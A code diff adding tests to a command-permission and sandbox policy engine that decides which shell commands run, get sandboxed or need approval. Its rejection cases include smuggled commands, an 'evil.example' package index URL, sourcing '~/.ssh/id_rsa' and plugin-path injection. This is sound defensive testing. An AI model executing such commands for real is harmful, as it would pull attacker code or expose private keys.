@@ -3,7 +3,13 @@ import { compilePolicy } from '../policy/compile-policy.ts';
 import type { Layer } from '../policy/layer.ts';
 import type { Mode } from '../policy/mode-name.ts';
 import { fixedWorld, type FixedWorldOptions } from '../world/fixed-world.ts';
+import { readFacts } from '../facts/read-facts.ts';
+import { toolboxOf, toolFor } from '../facts/toolbox.ts';
+import { deriveProfile } from '../sandbox/derive-profile.ts';
+import type { SandboxProfile } from '../sandbox/sandbox-profile.ts';
 import { decideCall } from './decide-call.ts';
+import type { DecisionInput } from './decision-input.ts';
+import { judge } from './judge.ts';
 import type { Decision } from './decision.ts';
 
 const sandbox = { engine: 'test', version: '1', proven: true, path: ['/usr/bin'] };
@@ -32,6 +38,30 @@ function decided(
   );
 }
 
+/** As the gate does: the profile comes from outside. */
+function deriveProfileOf(command: string): SandboxProfile {
+  const call = { tool: 'Bash', input: { command } };
+  const world = fixedWorld({ sandbox, repository });
+  const policy = compilePolicy([
+    { layer: 'user', sandbox: 'on', allow: ['Effect(run)', 'Effect(remote-read)'] },
+  ]);
+  const { profile } = deriveProfile({ policy, world, mode: 'default' });
+  expect(profile.hosts).toEqual([]);
+  const input: DecisionInput = {
+    call,
+    facts: readFacts(call, toolFor(toolboxOf(undefined), call), world),
+    policy,
+    mode: 'default',
+    world,
+    grants: [],
+    callKey: '',
+    interactive: true,
+    runsSandboxed: true,
+    sandboxProfile: () => ({ profile, lines: [], problems: [] }),
+  };
+  return judge(input).view?.derived().profile ?? profile;
+}
+
 function outcome(command: string, given: Case = {}): string {
   const { verdict, sandbox: obligation } = decided(command, given);
   return obligation === undefined ? verdict : 'sandboxed';
@@ -44,6 +74,10 @@ test('a client that only asks, and keeps its settings with the user, runs outsid
     'kubectl get pods -n x',
     "promtool query instant https://prometheus.acme.dev 'up'",
     'adb -s emulator-5554 shell getprop ro.build.version.sdk',
+    'helm diff upgrade w charts/w -f charts/w/values.yaml',
+    'helm upgrade --install w charts/w --dry-run=client',
+    'firebase apps:list ANDROID',
+    'security find-identity -v -p codesigning',
   ])
     expect(outcome(line, { policy })).toBe('allow');
   for (const line of [
@@ -52,6 +86,13 @@ test('a client that only asks, and keeps its settings with the user, runs outsid
     'terraform plan',
     'kubectl $x',
     'KUBECONFIG=./x kubectl get pods',
+    'HELM_PLUGINS=./x helm diff upgrade w c',
+    'export HELM_PLUGINS=./x; helm diff upgrade w c',
+    'helm --kubeconfig ./x list',
+    'helm upgrade w c --dry-run --post-renderer ./x',
+    'firebase --config ./x apps:list',
+    'node_modules/.bin/firebase apps:list',
+    'npx firebase apps:list',
   ])
     expect(outcome(line, { policy })).not.toBe('allow');
 });
@@ -251,6 +292,68 @@ describe('a host that is asked about once', () => {
     );
     expect(governed.receipt.changes.join()).not.toContain('sandbox host');
   });
+});
+
+describe('a package registry that the row of an allowed call names', () => {
+  const policy: Layer = { allow: ['run', 'edit', 'remote-read'].map((name) => `Effect(${name})`) };
+  const hostsOf = (command: string, given: Case = {}): readonly string[] | undefined =>
+    decided(command, { policy, ...given }).sandbox?.profile.hosts;
+
+  test('is open to this call, and no other host is', () => {
+    expect(hostsOf('cargo search notify')).toEqual(['index.crates.io', 'static.crates.io']);
+    expect(hostsOf('dotnet restore | tail -5')).toEqual(['api.nuget.org']);
+    expect(hostsOf('npm test')).toEqual([]);
+    // The gate derives a profile before it knows of the host.
+    const { hosts } = deriveProfileOf('cargo search notify');
+    expect(hosts).toEqual(['index.crates.io', 'static.crates.io']);
+  });
+
+  // Held against: code that only the sandbox allows and that would send what it read; a host that the call brings along.
+  test.each([
+    'mytool --all && cargo search notify',
+    'cargo search notify; python3 -c "import os; os.system(\'./x\')"',
+    'cargo search notify https://evil.example',
+    'uv lock --index-url https://evil.example/simple',
+  ])('not for %s', (command) => expect(outcome(command, { policy })).toBe('ask'));
+
+  test('not where nobody allowed the call, a rule closes the host, or a team names the hosts', () => {
+    expect(outcome('cargo search notify')).toBe('ask');
+    const closed = { ...policy, deny: ['WebFetch(domain:index.crates.io)'] };
+    expect(outcome('cargo search notify', { policy: closed })).toBe('ask');
+    const governed = compilePolicy([
+      { layer: 'user', ...policy },
+      { layer: 'managed', sandbox: 'on' },
+    ]);
+    const options = { policy: governed, world: fixedWorld({ sandbox, repository }), runsSandboxed: true };
+    const call = { tool: 'Bash', input: { command: 'cargo search notify' } };
+    expect(decideCall(call, options).verdict).toBe('ask');
+  });
+});
+
+test('what a rule allows and a sandbox can run is not asked about for what other uses of the program need', () => {
+  const policy = { allow: ['read', 'edit', 'run', 'serve'].map((name) => `Effect(${name})`) };
+  for (const line of [
+    'wrangler deploy --dry-run --outdir /tmp/worker',
+    'wrangler d1 execute nightly --local --command "select 1"',
+    'openocd --version',
+    'esptool.py --chip esp32c3 image_info build/app.bin',
+    'source ~/miniconda3/etc/profile.d/conda.sh',
+    'dpkg-deb -c ../a.deb',
+  ])
+    expect([line, outcome(line, { policy })]).toEqual([line, 'sandboxed']);
+  // Held against: the same programs where they do reach out, and files that no rule lets anyone read.
+  for (const line of [
+    'wrangler deploy',
+    'wrangler d1 execute nightly --remote --command "select 1"',
+    'terraform plan',
+    'openocd -f board.cfg',
+    'esptool.py read_mac',
+    'esptool.py image_info /dev/ttyUSB0',
+    'source ~/.ssh/id_rsa',
+    'supabase start',
+  ])
+    expect([line, outcome(line, { policy })]).toEqual([line, 'ask']);
+  expect(outcome('dpkg-deb -c ../a.deb')).toBe('ask');
 });
 
 test('a host that was opened for a while is closed again', () => {
